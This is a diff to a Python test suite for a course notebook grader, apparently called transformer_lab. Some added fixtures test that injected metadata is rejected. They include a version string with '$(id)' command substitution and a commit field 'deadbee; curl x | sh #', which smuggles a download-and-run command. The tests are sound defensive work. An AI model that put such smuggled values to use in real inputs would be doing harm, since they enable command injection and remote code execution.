@@ -806,7 +806,13 @@ def test_a_notebook_s_recorded_version_is_read_forgivingly(tmp_path):
                                ({"transformer_lab": {"version": "0.1.0"}},
                                 versions.CourseVersion("0.1.0", "unknown")),
                                ({}, None), ({"transformer_lab": "0.1.0"}, None),
-                               ({"transformer_lab": {"version": 1}}, None)]:
+                               ({"transformer_lab": {"version": 1}}, None),
+                               # not a version, nor a commit: never pasted into a command
+                               ({"transformer_lab": {"version": "0.2.0 "}}, None),
+                               ({"transformer_lab": {"version": "1\n$(id)"}}, None),
+                               ({"transformer_lab": {"version": "9.9.9",
+                                                     "commit": "deadbee; curl x | sh #"}},
+                                versions.CourseVersion("9.9.9", "unknown"))]:
         path.write_text(json.dumps({"cells": [], "metadata": metadata}))
         assert versions.notebook_version(path, 10**6) == expected, metadata
     path.write_text("not a notebook")
@@ -973,7 +979,8 @@ def test_flags_on_code():
                    "m[np.isneginf(m)] = 0\nos.system('ls')\nimport subprocess"),
         ("cell 3", "import tracemalloc\ntracemalloc.stop()"),
         ("cell 4", "from transformer_lab import checks\nimport transformer_lab.checks as c\n"
-                   "y.flags.writeable = True\ny.setflags(write=True)\nc.framework._CACHED.clear()"),
+                   "y.flags.writeable = True\ny.setflags(write=True)\nc.framework._CACHED.clear()\n"
+                   "y.flags['W'] = 1"),
     ])
     got = {(f.where, f.line): f.what for f in found}
     assert "shell command" in got["cell 1", 3] and "%%capture" in got["cell 1", 4]
@@ -984,7 +991,7 @@ def test_flags_on_code():
     assert "os.system" in got["cell 2", 8] and "subprocess" in got["cell 2", 9]
     assert "the memory measurement some checks make" in got["cell 3", 1]
     assert all("internals" in got["cell 4", k] for k in (1, 2, 5))
-    assert all("writable again" in got["cell 4", k] for k in (3, 4))
+    assert all("writable again" in got["cell 4", k] for k in (3, 4, 6))
     for module in parse_package(ROOT / "src" / "transformer_lab").core.values():
         clean = flags.scan_python(module.source, module.name)
         assert not clean, clean  # the reference core raises no flag
@@ -1081,7 +1088,7 @@ def test_a_function_that_writes_the_probe_s_progress_lines_still_times_out(tmp_p
     cell = ("import os, sys, time\n"
             "def logsumexp(x, axis=-1):\n"
             "    with open(os.path.join(sys.argv[1], 'out', 'progress'), 'a') as f:\n"
-            "        for line in ['case 0 0', 'cell 0', 'setup done', 'junk'] * 1000:\n"
+            "        for line in ['case 0 0', 'cell 0', 'setup done', 'done', 'junk'] * 1000:\n"
             "            f.write(line + '\\n'); f.flush(); time.sleep(0.1)")
     spec = probe_driver.CheckSpec("check-logsumexp", ("logsumexp",), {},
                                   F.all_cases(F.get_check("check-logsumexp"), hidden=False)[:1])
@@ -1231,3 +1238,17 @@ def test_a_folder_without_a_notebook_to_grade_says_so(tmp_path, capsys):
     assert "no notebook was graded: none handed in is named after one graded here" in \
         capsys.readouterr().out
     assert (tmp_path / "grades" / "skipped.csv").read_text().count("\n") == 3  # header + 2
+
+
+def test_a_culprit_that_failed_a_hidden_case_only_is_named_where_hidden_verdicts_show():
+    """Where hidden verdicts show later (Gradescope), a public failure's message names only the
+    checks that failed a public case: naming one that failed a hidden case alone tells the
+    student a hidden verdict early."""
+    def results():
+        return [reports.CheckResult("check-softmax-forward", 0, 2, "wrong", 9, 8, 8),
+                reports.CheckResult("check-attention-forward", 0, 2, "raised", 0, 6, 0)]
+    shown, hidden = results(), results()
+    grade.name_culprits(shown)
+    grade.name_culprits(hidden, public_only=True)
+    assert "`softmax_forward` fails `check-softmax-forward` too" in shown[1].message
+    assert hidden[1].message == "raised"
